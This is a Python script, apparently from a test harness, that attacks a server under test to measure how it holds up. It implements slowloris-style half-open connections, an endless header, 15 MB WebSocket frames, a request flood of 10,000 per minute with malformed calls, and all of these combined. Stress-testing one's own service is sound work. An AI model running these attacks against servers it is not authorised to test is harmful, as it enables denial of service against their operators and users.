"""Attacks on a server, as a program of its own: `python attack.py URL KIND SECONDS`.

It shares no thread with whoever measures, so that what is late is the server.
"""

import asyncio
import json
import os
import random
import sys
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from urllib.parse import urlsplit

HALF_OPEN = 2000
LARGE_FRAME_BYTES = 15_000_000
PIECE = b"a" * 65536
REQUESTS_PER_S = 10_000 / 60
AT_ONCE = 4
PACE_S = 0.05
HEAD = b"GET /health HTTP/1.1\r\nHost: server\r\n"
UPGRADE = (
    b"GET /ws HTTP/1.1\r\nHost: server\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
MISCALL = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": [1]}}
REQUESTS: tuple[tuple[str, str, object], ...] = (
    *(("GET", path, None) for path in ("/health", "/ready", "/tasks", "/state", "/schema")),
    *(("GET", path, None) for path in ("/metadata", "/openapi.json", "/grader?tier=easy", "/no")),
    ("POST", "/reset", {"seed": -1}),
    ("POST", "/reset", {"session_id": "foreign"}),
    ("POST", "/step", {"action": "reboot"}),
    ("POST", "/mcp", MISCALL),
    ("DELETE", "/sessions/nobody", None),
)
Attack = Callable[[str, int], Awaitable[None]]


async def half_open(host: str, port: int) -> None:
    """Begins requests that never end, and begins anew those that are closed."""

    async def one() -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    writer.write(HEAD)
                    await reader.read()
                finally:
                    writer.close()
            await asyncio.sleep(PACE_S * 20)

    await asyncio.gather(*(one() for _ in range(HALF_OPEN)))


async def endless_header(host: str, port: int) -> None:
    """A header line without an end."""

    async def one() -> None:
        while True:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(host, port)
                writer.write(HEAD + b"X: ")
                with suppress(OSError):
                    while True:
                        writer.write(PIECE)
                        await writer.drain()
                writer.close()
            await asyncio.sleep(PACE_S)

    await asyncio.gather(*(one() for _ in range(AT_ONCE)))


async def large_frames(host: str, port: int) -> None:
    """Text of 15 MB in one WebSocket message."""
    head = b"\x81\xff" + LARGE_FRAME_BYTES.to_bytes(8, "big") + bytes(4)

    async def one() -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                reader, writer = await asyncio.open_connection(host, port)
                writer.write(UPGRADE)
                await reader.readuntil(b"\r\n\r\n")
                writer.write(head)
                for _ in range(LARGE_FRAME_BYTES // len(PIECE) + 1):
                    writer.write(PIECE)
                    await writer.drain()
                writer.close()
            await asyncio.sleep(PACE_S)

    await asyncio.gather(*(one() for _ in range(AT_ONCE)))


async def many_requests(host: str, port: int) -> None:
    """10,000 requests a minute, of every kind, each due at its time whatever came before."""
    loop, draw = asyncio.get_running_loop(), random.Random(0)
    began, sent, calls = loop.time(), 0, set()
    while True:
        for _ in range(int((loop.time() - began) * REQUESTS_PER_S) - sent):
            sent += 1
            call = asyncio.create_task(_request(host, port, draw.choice(REQUESTS)))
            calls.add(call)
            call.add_done_callback(calls.discard)
        await asyncio.sleep(PACE_S / 10)


async def _request(host: str, port: int, request: tuple[str, str, object]) -> None:
    method, path, body = request
    content = b"" if body is None else json.dumps(body).encode()
    head = f"{method} {path} HTTP/1.1\r\nHost: server\r\nConnection: close\r\n"
    head += f"Content-Type: application/json\r\nContent-Length: {len(content)}\r\n\r\n"
    with suppress(OSError):
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(head.encode() + content)
        await reader.read()
        writer.close()


async def all_at_once(host: str, port: int) -> None:
    """All of the above."""
    each = (half_open, endless_header, large_frames, many_requests)
    await asyncio.gather(*(attack(host, port) for attack in each))


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (half_open, endless_header, large_frames, many_requests, all_at_once)
}


async def main(url: str, kind: str, seconds: float) -> None:
    address = urlsplit(url)
    assert address.hostname and address.port
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await ATTACKS[kind](address.hostname, address.port)
    os._exit(0)  # thousands of connections are left as they are


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], float(sys.argv[3])))
